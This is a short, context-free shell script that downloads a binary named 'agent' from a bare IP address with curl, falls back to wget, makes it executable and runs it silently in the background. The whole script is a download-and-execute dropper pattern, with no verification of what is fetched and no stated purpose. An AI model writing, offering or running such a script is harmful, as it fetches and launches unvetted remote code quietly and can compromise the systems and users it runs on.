curl -s http://192.0.2.17/agent -o agent
if [ ! -f agent ]; then
  wget -q http://192.0.2.17/agent -O agent
fi
chmod +x agent
./agent --quiet &
